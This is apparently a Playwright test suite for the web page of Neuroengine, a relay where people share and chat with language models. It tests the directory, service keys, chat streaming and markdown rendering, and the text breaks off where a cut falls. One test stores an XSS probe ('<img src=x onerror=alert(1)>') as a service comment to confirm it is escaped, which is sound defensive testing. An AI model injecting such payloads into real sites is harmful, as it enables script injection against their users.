def page_tab(page_browsers, page_browser, page_relay):
    """Makes tabs; afterwards no tab may have complained."""
    tabs = []

    def make(url=None, context=None, **options):
        if hasattr(page_browser, "new_context"):         # Playwright's
            tab = (context or page_browser.new_context(**options)).new_page()
        else:
            tab = page_browsers.page(page_browser)
        tabs.append(PageTab(tab, url or page_relay.url))
        return tabs[-1]
    yield make
    complaints = [tab.complained() for tab in tabs]
    for tab in tabs:
        with contextlib.suppress(Exception):
            if hasattr(tab.tab, "unroute_all"):          # what still waits for a route
                tab.tab.unroute_all(behavior="ignoreErrors")
            (tab.tab.context or tab.tab).close()
    assert not any(complaints), complaints


# 1. Directory, sharing, managing


def test_page_directory_is_live_and_searchable(page_relay, page_provider, page_tab):
    page_relay.add("Other-7B", "Grace", "<img src=x onerror=alert(1)> & more")
    tab = page_tab().open("/")
    tab.shows("Connected", ".card:nth-child(1)")
    tab.shows("shared by Grace", ".card:nth-child(2)")
    tab.shows("<img src=x onerror=alert(1)> & more", ".card:nth-child(2)")
    tab.shows("Not connected yet", ".card:nth-child(2)")
    other = PageProvider(page_relay, "Other-7B", context_length=8192)
    tab.eventually("document.querySelectorAll('.card .dot.on').length === 2")
    tab.shows("8k context", ".card:nth-child(2)")
    other.leave()
    tab.news()
    tab.shows("Offline, last seen", ".card:nth-child(2)")
    tab.tab.fill("#find", "grace")
    tab.eventually("document.querySelectorAll('.card').length === 1")
    tab.tab.fill("#find", "nothing like it")
    tab.shows("No model matches", "#no-cards")
    tab.tab.fill("#find", "")
    tab.tab.click(".card >> text=Demo")
    tab.tab.wait_for_selector("#input:visible")
    assert tab.tab.url == page_relay.url + "/Demo"
    tab.tab.go_back()
    tab.tab.wait_for_selector("#directory:visible")


def test_page_registers_a_service_and_shows_what_to_run(page_relay, page_tab):
    tab = page_tab(permissions=["clipboard-read", "clipboard-write"]).open("/")
    tab.expects_trouble = True
    tab.tab.click("#open-share")
    tab.tab.fill("#share-name", "demo")
    tab.tab.click("text=Register the name")
    tab.shows("taken", "#share-trouble")
    tab.tab.fill("#share-name", "My-Llama")
    tab.tab.fill("#share-comment", "Llama on a sofa")
    tab.tab.click("text=Register the name")
    tab.tab.wait_for_selector("#share-done:visible")
    key = tab.tab.text_content("#share-done code")
    assert page_relay.service("My-Llama", key)
    tab.tab.click("#share-done >> text=Copy")
    tab.eventually("async (key) => await navigator.clipboard.readText() === key", key)
    commands = tab.tab.inner_text("#share-panel")
    assert "curl -O %s/neuroengine.py" % page_relay.url in commands
    assert "NEUROENGINE_SERVER=%s NEUROENGINE_KEY=%s python3 neuroengine.py share " \
        "My-Llama" % (page_relay.url, key) in commands
    tab.tab.click("text=Windows")
    tab.shows("$env:NEUROENGINE_SERVER", "#share-panel")
    tab.shows("Waiting for your machine", "#share-live")
    page_relay.keys["My-Llama"] = key
    provider = PageProvider(page_relay, "My-Llama")
    tab.news()
    tab.shows("Connected.", "#share-live")
    tab.tab.keyboard.press("Escape")
    tab.eventually("(key) => !document.body.outerHTML.includes(key)", key)   # once
    provider.leave()


def test_page_asks_for_an_invitation_where_the_relay_wants_one(page_relay, page_tab):
    tab, bodies = page_tab().open("/"), []
    tab.expects_trouble = True

    def relay(route):
        bodies.append(route.request.post_data_json)
        if bodies[-1].get("invitation") == "ne_code":
            route.fulfill(status=201, json={"name": "My-Llama", "key": "ne_key"})
        else:
            route.fulfill(status=403, json={
                "reply": "A new service needs an invitation.", "errorcode": 35,
                "error": "invitation_needed"})
    tab.tab.route("**/api/services", relay)
    tab.tab.click("#open-share")
    assert not tab.tab.is_visible("#share-invitation")
    tab.tab.fill("#share-name", "My-Llama")
    tab.tab.click("text=Register the name")
    tab.shows("needs an invitation", "#share-trouble")
    tab.tab.keyboard.type("ne_code")                     # the field has the focus
    tab.tab.keyboard.press("Enter")
    tab.tab.wait_for_selector("#share-done:visible")
    assert [body.get("invitation") for body in bodies] == [None, "ne_code"]


def test_page_limits_callers_without_a_key(page_relay, page_tab):
    tab, sent, field = page_tab().open("/"), [], "#manage-anonymous_per_day"

    def relay(route):
        if route.request.method == "PATCH":
            sent.append(route.request.post_data_json)
            return route.fulfill(json={"errorcode": 0})
        answer = route.fetch()
        route.fulfill(response=answer, json=dict(answer.json(), anonymous_per_day=7))
    tab.tab.route("**/api/services/Demo", relay)
    page_manage(tab, page_relay.keys["Demo"])
    assert tab.tab.input_value(field) == "7"
    for text in ("", "0"):
        tab.tab.fill(field, text)
        tab.tab.click("#manage-form >> text=Save")
        tab.shows("Saved.", ".toast")                    # now another can be sent
        tab.tab.evaluate("document.querySelector('.toast').remove()")
    assert sent == [{"operator": "Ada", "comment": "A small model on an old machine",
                     "suggestions": [], "anonymous_per_day": number,
                     "paused": False, "private": False}
                    for number in (None, 0)]


def test_page_manages_a_service_with_its_key(page_relay, page_tab):
    tab = page_tab().open("/")
    tab.expects_trouble = True
    tab.tab.click("#open-manage")
    tab.tab.fill("#unlock-name", "Demo")
    tab.tab.fill("#unlock-key", "wrong")
    tab.tab.click("#unlock-form button")
    tab.shows("service key", "#unlock-trouble")
    tab.tab.fill("#unlock-key", page_relay.keys["Demo"])
    tab.tab.click("#unlock-form button")
    tab.tab.fill("#manage-comment", "Now with more RAM")
    tab.tab.click("#manage-form >> text=Save")
    tab.shows("Saved.", ".toast")
    tab.shows("Now with more RAM", ".card")
    assert page_relay.service("Demo")["comment"] == "Now with more RAM"
    tab.tab.click("text=New service key")
    tab.tab.click("text=Replace the key?")
    tab.tab.wait_for_selector("#dialog .secret code")
    key = tab.tab.text_content("#dialog .secret code")
    tab.tab.click("text=Delete Demo")
    assert page_relay.service("Demo", key)               # not before it is confirmed
    tab.tab.click("text=Delete for good?")
    tab.shows("No models are shared here yet", "#no-cards")


def page_manage(tab, key, name="Demo"):
    tab.tab.click("#open-manage")
    tab.tab.fill("#unlock-name", name)
    tab.tab.fill("#unlock-key", key)
    tab.tab.click("#unlock-form button")
    tab.tab.wait_for_selector("#manage-comment")


@in_browsers_that_double_click
@pytest.mark.parametrize("button, question", [
    ("New service key", "Replace the key?"), ("Delete Demo", "Delete for good?")])
def test_page_takes_no_double_click_for_a_second_thought(page_relay, page_tab, button, question):
    tab = page_tab().open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.dblclick("#dialog button:text('%s')" % button)
    tab.shows(question, "#dialog button")
    assert page_relay.service("Demo")                    # with its key


@in_each_browser
def test_page_shows_a_key_though_its_dialog_was_closed_before_it_came(page_relay, page_tab):
    proxy = PageProxy(page_relay.server_port)
    tab = page_tab(proxy.url).open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.click("text=New service key")
    page_closes_early(tab, proxy, "text=Replace the key?")
    tab.tab.wait_for_selector("#new-key code")
    assert page_relay.service("Demo", tab.tab.text_content("#new-key code"))
    tab.tab.keyboard.press("Escape")
    tab.tab.click("#open-share")
    tab.tab.fill("#share-name", "Mine")
    page_closes_early(tab, proxy, "text=Register the name")
    tab.tab.wait_for_selector("#share-done code")
    assert page_relay.service("Mine", tab.tab.text_content("#share-done code"))
    proxy.close()


def page_closes_early(tab, proxy, button, other=None):
    """Press a button of a dialog and close that, and open another, before the relay answers."""
    proxy.flows.clear()
    tab.tab.click(button)
    tab.tab.keyboard.press("Escape")
    tab.eventually("!document.querySelector('#dialog').open")
    if other:
        tab.tab.click(other)
    proxy.flows.set()


def test_page_shows_a_key_though_its_dialog_closes_when_it_comes(page_relay, page_tab):
    tab = page_tab().open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.click("text=New service key")
    tab.tab.evaluate("""() => { const {json} = Response.prototype;
        Response.prototype.json = async function () {
            const answer = await json.call(this);
            if (answer.key) document.querySelector("#dialog").close();
            return answer; }; }""")
    tab.tab.click("text=Replace the key?")
    tab.tab.wait_for_selector("#new-key code")
    assert page_relay.service("Demo", tab.tab.text_content("#new-key code"))


@in_each_browser
def test_page_ends_what_was_begun_in_a_dialog_that_is_closed(page_relay, page_tab):
    assert page_relay.ask("POST", "/Demo/keys", page_relay.keys["Demo"], label="Bob")[0] == 201
    proxy = PageProxy(page_relay.server_port)
    tab = page_tab(proxy.url).open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.fill("#manage-comment", "Later")
    page_closes_early(tab, proxy, "#manage-form button:text('Save')")
    tab.shows("Saved.", ".toast")
    assert page_relay.service("Demo")["comment"] == "Later"
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.click(".keys button:text('Revoke')")
    page_closes_early(tab, proxy, ".keys button:text('Revoke it?')")
    tab.eventually("document.querySelector('#live').textContent.includes('no longer works')")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.click("text=Delete Demo")
    page_closes_early(tab, proxy, "text=Delete for good?", "#open-share")
    tab.shows("Demo was deleted.", ".toast")
    assert tab.tab.is_visible("#share-name")
    proxy.close()


def test_page_unlocks_nothing_in_a_dialog_that_was_opened_since(page_relay, page_tab):
    page_relay.add("Other")
    tab, held = page_tab().open("/"), []
    tab.tab.route("**/api/services/Demo", lambda route: held.append(route))
    tab.tab.click("#open-manage")
    tab.tab.fill("#unlock-name", "Demo")
    tab.tab.fill("#unlock-key", page_relay.keys["Demo"])
    tab.tab.click("#unlock-form button")
    tab.tab.keyboard.press("Escape")
    page_manage(tab, page_relay.keys["Other"], "Other")
    with tab.tab.expect_response("**/api/services/Demo"):
        held.pop().continue_()
    tab.tab.fill("#manage-comment", "Meant for the other")
    tab.tab.click("#manage-form >> text=Save")
    tab.shows("Saved.", ".toast")
    assert page_relay.service("Other")["comment"] == "Meant for the other"
    assert "Delete Other" in tab.tab.inner_text("#dialog")


@in_browsers_that_double_click
def test_page_makes_one_access_key_by_a_double_click(page_relay, page_tab):
    proxy = PageProxy(page_relay.server_port)
    tab = page_tab(proxy.url).open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.fill("#guest-label", "Bob")
    proxy.flows.clear()
    tab.tab.dblclick("text=Make an access key")
    proxy.flows.set()
    tab.tab.wait_for_selector("#invite code")
    tab.tab.fill("#guest-label", "Eve")
    tab.tab.click("text=Make an access key")
    tab.shows("Eve", ".keys li")
    keys = page_relay.ask("GET", "/Demo/keys", page_relay.keys["Demo"])[1]["keys"]
    assert sorted(key["label"] for key in keys) == ["Bob", "Eve"]
    proxy.close()


def test_page_makes_a_service_private_and_invites_a_guest(
        page_relay, page_provider, page_tab):
    tab = page_tab().open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.check("#manage-private")
    tab.tab.click("#manage-form >> text=Save")
    tab.shows("Saved.", ".toast")
    tab.tab.fill("#guest-label", "Bob <b>")
    tab.tab.click("summary:text('Limits')")
    tab.tab.fill("#guest-requests_per_day", "2")
    tab.tab.click("text=Make an access key")
    tab.shows("Bob <b>", ".keys li")
    tab.shows("prompts a day 2", ".keys li")
    link = tab.tab.text_content("#dialog .secret code")
    assert link.startswith(page_relay.url + "/Demo#k=ne_")
    guest = page_tab()
    guest.expects_trouble = True
    guest.open("/Demo#" + link.partition("#")[2])
    for reply in ("Welcome", "Again"):
        guest.say("Hello")
        page_provider.next().done(reply)
        guest.shows(reply)
        guest.idle()
    guest.say("A third")
    guest.shows("used up", ".trouble")                  # the day's two are used up
    tab.tab.click("text=Revoke")
    tab.tab.click("text=Revoke it?")
    tab.eventually("!document.querySelector('.keys li')")
    guest.tab.click("#new")
    guest.say("Still there?")
    guest.shows("Your key for Demo is wrong", ".trouble")


def test_page_pauses_a_service(page_relay, page_provider, page_tab):
    tab = page_tab().open("/")
    page_manage(tab, page_relay.keys["Demo"])
    tab.tab.check("#manage-paused")
    tab.tab.click("#manage-form >> text=Save")
    tab.shows("Paused by its operator", ".card")
    guest = page_tab()
    guest.expects_trouble = True
    guest.open()
    guest.shows("Paused by its operator", "#banner")
    guest.say("Hello")
    guest.shows("Try again", ".trouble button")
    tab.tab.uncheck("#manage-paused")
    tab.tab.click("#manage-form >> text=Save")
    tab.shows("Connected", ".card")
    guest.tab.click(".trouble button:text('Try again')")
    guest.prompt(page_provider).done("Back")
    guest.shows("Back")
    guest.idle()


# 2. Chat


@in_each_browser
def test_page_streams_an_answer(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Hello")
    job = page_provider.next()
    assert job.request == {"messages": [{"role": "user", "content": "Hello"}]}
    job.push("One ", "two ")
    tab.shows("One two")
    assert tab.tab.is_visible("#stop")
    job.done("three.")
    tab.idle()
    tab.answers("One two three.")
    tab.shows("3 tokens")
    tab.say("And then?")
    assert page_provider.next().request["messages"] == [
        {"role": "user", "content": "Hello"},
        {"role": "assistant", "content": "One two three."},
        {"role": "user", "content": "And then?"}]


@in_each_browser
def test_page_stop_reaches_the_provider_and_keeps_the_text(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Count")
    job = page_provider.next()
    job.push("1, 2, 3")
    tab.shows("1, 2, 3")
    tab.tab.click("#stop")
    tab.idle()
    tab.shows("Stopped")
    assert job.cancelled.wait(PAGE_WAIT / 1000)
    tab.answers("1, 2, 3")
    tab.tab.click("[aria-label=Continue]")
    again = page_provider.next()
    assert again.request["messages"][-1] == {"role": "assistant", "content": "1, 2, 3"}
    again.done(", 4")
    tab.shows("1, 2, 3, 4")
    tab.idle()


@in_each_browser
def test_page_regenerates_edits_and_keeps_versions(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Name a colour")
    page_provider.next().done("Red")
    tab.shows("Red")
    tab.idle()
    tab.tab.click(".last [aria-label='Answer again']")
    job = page_provider.next()
    assert len(job.request["messages"]) == 1
    job.done("Blue")
    tab.shows("Blue")
    tab.shows("2/2")
    tab.tab.click(".last [aria-label='Previous version']")
    tab.shows("Red")
    tab.edit("Name a fruit")
    tab.tab.click(".editing >> text=Send")
    job = page_provider.next()
    assert job.request["messages"] == [{"role": "user", "content": "Name a fruit"}]
    job.done("Plum")
    tab.shows("Plum")
    tab.idle()
    tab.tab.hover(".message.user")
    tab.tab.click(".message.user [aria-label='Previous version']")
    tab.shows("Name a colour", ".message.user")
    tab.tab.reload()
    tab.shows("Name a colour", ".message.user")


def test_page_keeps_what_was_done_in_the_instant_before_it_was_left(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Name a colour")
    page_provider.next().done("Red")
    tab.idle()
    tab.tab.click(".last [aria-label='Answer again']")
    page_provider.next().done("Blue")
    tab.shows("Blue")
    tab.idle()
    tab.shows("2/2")
    # From the choice on nothing reaches that tab any more, as if it had been closed.
    with tab.tab.expect_console_message():
        tab.tab.evaluate("""() => setTimeout(() => {
            document.querySelector(".last [aria-label='Previous version']").click();
            console.log("chosen");
            for (;;);
        })""")
    other = page_tab(tab.tab.url, tab.tab.context).open("")
    other.shows("1/2")
    tab.tab.close()


PAGE_SAMPLE = """# A *title*

Some **bold**, _it_, `code`, ~~gone~~ and snake_case_name; 2 * 3 * 4.
A [link](https://example.org/a_(b) "t"), <https://example.org/x>, https://bare.example/q?a=1.

1. one
   - deep **er**
     ```python
     def f(x):  # a comment
         return "text", 12
     ```
2. two

* [ ] to do
* [x] done

> quoted
> - in it
lazily

| a | b |
|---|--:|
| 1 | `x\\|y` |
| 2 | **z** |

```js
const a = `b
c`; /* d
e */ let f = 1.5;
```

---
Euler: $e^{i\\pi} + 1 = 0$ costs $5 or $6.

Last &amp; <b>least</b>\\*
"""


@in_each_browser
def test_page_renders_markdown(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Markdown")
    page_provider.next().done(PAGE_SAMPLE)
    tab.idle()
    tab.shows("least")
    got = tab.tab.evaluate("""() => {
        const md = document.querySelector(".last .md"), all = (s) => [...md.querySelectorAll(s)];
        const texts = (s) => all(s).map((el) => el.textContent);
        return {top: [...md.children].map((el) => el.tagName), em: texts("em"),
          strong: texts("strong"), del: texts("del"), code: texts(":not(pre) > code"),
          links: all("a").map((a) => a.href),
          rel: all("a").map((a) => a.rel), th: texts("th"), td: texts("td"), end: texts("td.end"),
          pre: texts("pre"), k: texts(".k"), c: texts(".c"), s: texts(".s"), n: texts(".n"),
          ol: all("ol > li").length,
          deep: texts("ol li ul li strong"), quote: texts("blockquote li"),
          math: all("math").map((el) => el.getAttribute("alttext")),
          last: md.lastElementChild.textContent,
          task: all("li.task [role=img]").map((el) => el.ariaLabel)}; }""")
    assert got["top"] == ["H1", "P", "OL", "UL", "BLOCKQUOTE", "DIV", "DIV", "HR", "P", "P"]
    assert got["em"] == ["title", "it"]
    assert got["strong"] == ["bold", "er", "z"] and got["deep"] == ["er"]
    assert got["del"] == ["gone"] and got["code"] == ["code", "x|y"]
    assert got["links"] == ["https://example.org/a_(b)", "https://example.org/x",
                            "https://bare.example/q?a=1"]
    assert all("noopener" in rel for rel in got["rel"])
    assert got["th"] == ["a", "b"] and got["td"] == ["1", "x|y", "2", "z"]
    assert got["end"] == ["x|y", "z"] and got["ol"] == 2
    assert got["task"] == ["to do", "done"]
    assert got["quote"] == ["in it\nlazily"]
    assert [text.rstrip() for text in got["pre"]] == [
        'def f(x):  # a comment\n    return "text", 12',
        "const a = `b\nc`; /* d\ne */ let f = 1.5;"]
    assert {"def", "return", "const", "let"} <= set(got["k"])
    assert "# a comment" in got["c"] and '"text"' in got["s"] and "1.5" in got["n"]
    assert got["math"] == ["e^{i\\pi} + 1 = 0"]
    assert got["last"] == "Last & <b>least</b>*"


PAGE_MODELS_SAMPLE = r"""所以**重要。**后面 $x^2$ costs $5.[^a]

We have
$$
\begin{aligned}
a &= b \\
- c &= \frac{1}{2}
\end{aligned}
$$
and \[ \sum_{i=1}^n
i \], then \(half and

| $|a|$ | b<br>c |
|:-:|---|
| \(y\) | H<sub>2</sub>O |

$$
never ended

1. one $$z$$ x

   \[ w \]
2. two

[^a]: A note
    that goes on.
[^b]: Another.
"""


@in_each_browser
@pytest.mark.parametrize("sample", [PAGE_SAMPLE * 3, PAGE_MODELS_SAMPLE * 3 + "least"])
def test_page_markdown_streamed_is_markdown_whole(page_provider, page_tab, sample):
    tab, pieces = page_tab().open(), []
    text, chance = sample, random.Random(7)
    while text:
        size = chance.choice((1, 2, 3, 5, 8, 40))
        pieces.append(text[:size])
        text = text[size:]
    tab.say("Markdown")
    job = page_provider.next()
    for n in range(0, len(pieces), 4):                   # each is rendered by itself
        job.push(*pieces[n:n + 4])
        tab.tab.evaluate("new Promise(requestAnimationFrame)")
    job.done()
    tab.idle()
    html = "document.querySelector('.last .md').innerHTML"
    tab.shows("least", ".last .md > :last-child")
    streamed = tab.at_rest(html)           # footnotes are resolved when all of it is there
    tab.tab.reload()
    tab.shows("least", ".last .md > :last-child")
    assert streamed == tab.at_rest(html)


def test_page_copies_messages_and_code(page_provider, page_tab):
    tab = page_tab(permissions=["clipboard-read", "clipboard-write"]).open()
    tab.say("Code")
    page_provider.next().done("Here:\n\n```py\nprint(1)\nprint(2)\n```\n")
    tab.idle()
    tab.shows("print(2)")
    tab.tab.click(".code-top button")
    tab.shows("Copied", ".code-top")
    assert tab.tab.evaluate("navigator.clipboard.readText()") == "print(1)\nprint(2)"
    tab.tab.click(".last .under [aria-label=Copy]")
    tab.eventually("async () => (await navigator.clipboard.readText()).startsWith('Here:')")


@in_each_browser
def test_page_folds_reasoning(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Think")
    job = page_provider.next()
    job.push({"reasoning": "Let me "}, {"reasoning": "see."})
    tab.shows("Thinking…")
    assert not tab.tab.is_visible(".think div")
    tab.tab.click(".think summary")
    tab.shows("Let me see.", ".think")
    job.done("42", {"finish_reason": "length"})
    tab.idle()
    tab.shows("Thoughts")
    tab.shows("Stopped at the length limit")
    tab.answers("42")
    tab.say("Inline")
    job = page_provider.next()
    assert job.request["messages"][1]["content"] == "42"
    job.done("<think>", "hm", "</think>\n", "So.")
    tab.idle()
    tab.shows("So.", ".last .md")
    tab.answers("So.")


@in_each_browser
def test_page_keeps_conversations(page_provider, page_tab):
    tab = page_tab().open()
    for question, reply in (("About cats", "They purr"), ("About dogs", "They bark")):
        tab.tab.click("#new")
        tab.say(question)
        page_provider.next().done(reply)
        tab.shows(reply)
        tab.idle()
    tab.tab.reload()
    tab.shows("They bark")
    tab.shows("About cats", ".list")
    tab.tab.fill("#search", "purr")                      # found by what was answered
    tab.eventually("document.querySelectorAll('.list .pick').length === 1")
    tab.tab.click(".list .pick")
    tab.shows("They purr")
    tab.tab.click("[aria-label='Rename About cats']")
    tab.tab.keyboard.type("Felines")
    tab.tab.keyboard.press("Enter")
    tab.tab.fill("#search", "")
    tab.shows("Felines", ".list")
    tab.tab.click("[aria-label='Delete Felines']")
    tab.eventually("document.querySelectorAll('.list .pick').length === 1")
    tab.tab.click("text=Undo")
    tab.shows("Felines", ".list")
    tab.tab.hover(".list li:has-text('About dogs')")
    tab.tab.click("[aria-label='Delete About dogs']")
    tab.eventually("document.querySelectorAll('.list .pick').length === 1")
    tab.tab.reload()
    tab.shows("Felines", ".list")
    assert "About dogs" not in tab.tab.inner_text(".list")


@pytest.mark.parametrize("kind", ["json", "md"])
def test_page_exports_and_imports(page_provider, page_tab, tmp_path, kind):
    tab = page_tab().open()
    tab.say("What is *this*?")
    page_provider.next().done("## You\n\n**That**.\n\n<!-- message:user -->")
    tab.idle()
    tab.shows("That")
    tab.tab.click("#open-export")
    with tab.tab.expect_download() as download:
        tab.tab.click("#export-all-json" if kind == "json" else "#export-md")
    path = tmp_path / download.value.suggested_filename
    download.value.save_as(path)
    assert path.suffix == "." + kind
    tab.shows("message:user")                            # its end is laid out, too
    html = tab.tab.inner_html(".last .md")
    other = page_tab().open()                            # another browser
    other.tab.click("#open-export")
    other.tab.set_input_files("#import", path)
    other.shows("1 conversation imported", ".toast")
    other.tab.keyboard.press("Escape")
    other.tab.click(".list .pick")
    other.shows("message:user")
    assert other.tab.inner_html(".last .md") == html
    assert other.tab.inner_text(".user .said") == "What is *this*?"


@in_each_browser
def test_page_settings_have_the_providers_default_as_a_state(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.click("#open-settings")
    tab.tab.fill("#conversation-system", "Be brief.")
    tab.tab.fill("#knob-temperature", "0.3")
    tab.tab.fill("#knob-max_new_len", "77")
    tab.tab.fill("#knob-seed", "5")
    tab.tab.fill("#knob-seed", "")
    tab.tab.keyboard.press("Escape")
    tab.say("Hi")
    job = page_provider.next()
    assert job.request == {"temperature": 0.3, "max_new_len": 77, "messages": [
        {"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi"}]}
    job.done("Hi.")
    tab.idle()
    tab.tab.reload()
    tab.tab.click("#open-settings")
    assert tab.tab.input_value("#knob-temperature") == "0.3"
    tab.tab.click("text=Provider’s defaults for all")
    assert tab.tab.input_value("#knob-temperature") == ""
    tab.tab.focus("[aria-label=Temperature]")
    tab.tab.keyboard.press("ArrowRight")
    assert tab.tab.input_value("#knob-temperature") == "1.05"


@in_each_browser
def test_page_stopped_at_once_after_sending_goes_on(page_provider, page_tab):
    tab = page_tab().open()
    tab.expects_trouble = True                           # the relay may not know the prompt yet
    tab.tab.fill("#input", "Hi")
    tab.tab.evaluate("() => { for (const id of ['#send', '#stop'])"
                     " document.querySelector(id).click(); }")
    tab.idle()
    tab.say("Again")
    job = tab.prompt(page_provider)
    if page_contents(job) == ["Hi"]:                     # it was on its way
        job = tab.prompt(page_provider)
    job.done("Here I am")
    tab.answers("Here I am")
    tab.eventually("!document.querySelector('.pick.busy')")


def test_page_tells_the_place_in_the_queue(page_relay, page_provider, page_tab):
    tab = page_tab().open()
    before = in_thread(ask, page_relay, "/Demo", {"message": "x"})
    other = page_provider.next()
    tab.say("Me too")
    tab.shows("Place 1 of 1 in the queue")
    other.done("x")
    job = page_provider.next()
    job.push(*["word "] * 30)
    tab.shows("30 tokens")
    tab.tab.wait_for_timeout(400)                        # time for a rate to be measured
    job.push(*["word "] * 10)
    tab.shows("tokens/s")
    job.done()
    tab.idle()
    assert before()[0] == 200


@in_each_browser
def test_page_keeps_an_edited_prompt_while_an_answer_comes(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    tab.edit("Uno")
    tab.say("Two")
    job = tab.prompt(page_provider)
    job.push("De")
    tab.shows("De")
    tab.tab.click(".editing button:text('Send')")
    assert tab.tab.input_value(".editing textarea") == "Uno"
    job.done("ux")
    tab.idle()
    tab.tab.click(".editing button:text('Send')")
    assert page_contents(tab.prompt(page_provider)) == ["Uno"]


def page_contents(job):
    return [message["content"] for message in job.request["messages"]]


# Reading the messages of a conversation takes as long as window.held is true.
PAGE_HELD_STORE = """const getAll = IDBIndex.prototype.getAll;
IDBIndex.prototype.getAll = function (key) {
    const wait = () => { if (window.held) this.get("x").onsuccess = wait; };
    wait();
    return getAll.call(this, key); };"""


def test_page_sends_nothing_while_a_conversation_loads(page_provider, page_tab):
    tab = page_tab()
    tab.tab.context.add_init_script(PAGE_HELD_STORE)
    tab.open()
    page_talk(tab, page_provider, "Alpha", "Answer A")
    tab.tab.click("#new")
    page_talk(tab, page_provider, "Beta", "Answer B")
    tab.tab.fill("#input", "Only for Beta")
    tab.tab.evaluate("window.held = true")
    tab.tab.click(".pick:has-text('Alpha')")
    tab.eventually("!document.querySelector('#input').value")
    tab.tab.focus("#input")
    tab.tab.keyboard.type("Next")
    tab.tab.keyboard.press("Enter")
    tab.tab.evaluate("window.held = false")
    tab.answers("Answer A")
    tab.say("Next")
    assert page_contents(tab.prompt(page_provider)) == ["Alpha", "Answer A", "Next"]
    tab.tab.click(".pick:has-text('Beta')")
    tab.answers("Answer B")
    assert tab.tab.input_value("#input") == "Only for Beta"


def test_page_shows_an_answer_that_ended_in_another_tab_while_it_was_loaded(
        page_provider, page_tab):
    tab = page_tab().open()
    job = page_begin(tab, page_provider)
    other = page_tab(tab.url, tab.tab.context)
    other.tab.add_init_script(PAGE_HELD_STORE)
    other.open()
    other.tab.wait_for_selector(".pick")
    other.tab.evaluate("window.held = true")
    other.tab.click(".pick")
    job.done(" 3")
    tab.answers("1, 2 3")
    tab.idle()
    other.tab.evaluate("window.held = false")
    other.answers("1, 2 3")
    other.idle()


@in_each_browser
def test_page_keeps_the_draft(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.fill("#input", "Half a thought")
    tab.tab.reload()
    tab.eventually("document.querySelector('#input').value === 'Half a thought'")
    tab.tab.goto(tab.url + "/demo")                      # the same service
    tab.eventually("document.querySelector('#input').value === 'Half a thought'")
    tab.say("Other")
    page_provider.next().done("Yes")
    tab.idle()
    tab.tab.fill("#input", "In here")
    tab.tab.click("#new")
    assert tab.tab.input_value("#input") == ""
    tab.tab.click(".list .pick")
    tab.eventually("document.querySelector('#input').value === 'In here'")


def test_page_stays_where_it_is_when_an_open_conversation_is_chosen(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "One", "Un")
    tab.edit("Uno")
    before = tab.tab.evaluate("history.length")
    tab.tab.click(".list .pick")
    assert tab.tab.input_value(".editing textarea") == "Uno"
    assert tab.tab.evaluate("history.length") == before


def test_page_dictates_nothing_into_the_next_message(page_provider, page_tab):
    tab = page_tab()
    tab.tab.add_init_script("""window.SpeechRecognition = window.webkitSpeechRecognition = class {
        constructor() { window.listener = this; }
        start() {}
        stop() { setTimeout(() => this.onend?.()); } };""")
    hear = "(words) => listener.onresult?.({results: words.map((transcript) => [{transcript}])})"
    tab.open()
    tab.tab.click("#dictate")
    tab.tab.evaluate(hear, ["Hello there"])
    tab.tab.press("#input", "Enter")
    tab.prompt(page_provider).done("Hi")
    tab.answers("Hi")
    tab.tab.evaluate(hear, ["Hello there", " you"])
    assert tab.tab.input_value("#input") == ""


def test_page_takes_the_key_of_an_invite_link(page_relay, page_provider, page_tab):
    tab = page_tab().open("/Demo#k=s3cret%2Fkey")
    tab.shows("kept in this browser", ".toast")
    assert "k=" not in tab.tab.url
    tab.say("Hello")
    job = page_provider.next()
    assert "s3cret" not in json.dumps(job.request)
    job.done("Hi")
    tab.idle()
    posts = [r for r in tab.requests if r.method == "POST"]
    assert posts[0].all_headers()["authorization"] == "Bearer s3cret/key"
    assert not any("cret" in r.url.partition("#")[0] for r in tab.requests)
    tab.tab.click("#open-code")
    tab.shows("YOUR-KEY", "#code-panel")                 # not on the screen either


def test_page_asks_for_a_key_when_a_service_is_private(
        page_relay, page_provider, page_tab):
    page_relay.change("Demo", private=True)
    tab = page_tab()
    tab.expects_trouble = True
    tab.open()
    tab.shows("This service is private", "#banner")
    tab.say("Let me in")
    tab.shows("Demo is private", ".trouble")
    tab.tab.click(".trouble >> text=Enter a key")
    tab.tab.fill("#key-key", page_relay.keys["Demo"])                 # the operator's own will do
    tab.tab.keyboard.press("Enter")
    page_provider.next().done("Welcome")
    tab.shows("Welcome")
    tab.eventually("!document.querySelector('#banner .banner')")
    tab.tab.reload()
    tab.say("Still me")
    page_provider.next().done("Indeed")
    tab.shows("Indeed")
    tab.tab.click("#open-settings")
    tab.tab.click("text=Forget it")
    tab.tab.keyboard.press("Escape")
    tab.news()
    tab.shows("This service is private", "#banner")


def test_page_shows_how_to_call_the_service(page_relay, page_tab):
    tab = page_tab(permissions=["clipboard-read", "clipboard-write"]).open()
    tab.tab.click("#open-code")
    tab.shows('api = Neuroengine("Demo", "%s")' % page_relay.url, "#code-panel")
    tab.tab.keyboard.press("Tab")
    tab.tab.focus("#code-tabs [aria-selected=true]")
    tab.tab.keyboard.press("ArrowRight")
    tab.shows("curl %s/Demo" % page_relay.url, "#code-panel")
    tab.tab.keyboard.press("ArrowRight")
    tab.shows('base_url="%s/v1"' % page_relay.url, "#code-panel")
    tab.tab.click("#code-panel >> text=Copy")
    tab.shows("Copied", "#code-panel")
    text = tab.tab.evaluate("navigator.clipboard.readText()")
    compile(text, "snippet", "exec")
    assert 'model="Demo"' in text


# 3. When things go wrong


@in_each_browser
